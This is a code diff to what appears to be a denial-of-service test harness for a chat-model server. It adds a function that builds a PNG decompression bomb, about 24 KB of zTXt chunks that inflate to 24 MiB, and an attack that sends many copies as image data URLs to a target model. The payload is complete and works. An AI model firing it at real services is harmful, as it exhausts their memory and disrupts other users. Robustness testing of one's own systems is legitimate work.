@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import argparse
 import asyncio
+import base64
 import contextlib
 import itertools
 import json
@@ -24,9 +25,11 @@ import resource
 import select
 import socket
 import statistics
+import struct
 import sys
 import time
 import uuid
+import zlib
 from collections import Counter
 from collections.abc import Awaitable, Callable, Mapping, Sequence
 from dataclasses import dataclass, field
@@ -309,6 +312,40 @@ async def attack_big(attack: Attack, start: Start, on: On) -> None:
         return await exchange(
             attack, before + content + after, stream=True, session=f"big-{n}-{uuid.uuid4().hex[:6]}"
         )
+
+    await start()
+    on()
+    await request_loop(attack, int(attack.params.get("clients", 1)), request)
+
+
+def text_bomb_png(chunks: int = 24, inflated: int = 1 << 20) -> bytes:
+    """A 1x1 PNG with ``chunks`` zTXt chunks before its pixels, each ~1 KB that inflates
+    to ``inflated`` bytes: ~24 KB whose header a text-inflating reader turns into 24 MiB."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)
+
+    ihdr = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
+    text = zlib.compress(b"\x00" * inflated, 9)
+    bomb = b"".join(chunk(b"zTXt", b"Comment%d\x00\x00" % n + text) for n in range(chunks))
+    pixels = chunk(b"IDAT", zlib.compress(b"\x00\x00"))
+    return b"\x89PNG\r\n\x1a\n" + ihdr + bomb + pixels + chunk(b"IEND", b"")
+
+
+async def attack_png(attack: Attack, start: Start, on: On) -> None:
+    """``images`` text-bomb PNGs as data URLs in one user message, a new session each
+    time: one (~32 KB of body, read on the event loop) or many (a body for the pool)."""
+    png = text_bomb_png(int(attack.params.get("chunks", 24)))
+    url = "data:image/png;base64," + base64.b64encode(png).decode()
+    parts = [{"type": "text", "text": "what is in these?"}]
+    parts += [{"type": "image_url", "image_url": {"url": url}}] * int(attack.params["images"])
+    before, after = chat_body(VICTIM_MODEL, json.dumps(parts).encode(), True)
+    attack.notes["body KB"] = round(len(before + after) / 1024, 1)
+
+    async def request(n: int) -> Answer:
+        session = f"png-{n}-{uuid.uuid4().hex[:6]}"
+        return await exchange(attack, before + after, stream=True, session=session)
 
     await start()
     on()
@@ -622,6 +659,7 @@ async def attack_slow(attack: Attack, start: Start, on: On) -> None:
 
 ATTACKS: dict[str, Callable[[Attack, Start, On], Awaitable[None]]] = {
     "big": attack_big,
+    "png": attack_png,
     "many": attack_many,
     "words": attack_words,
     "upstream": attack_upstream,
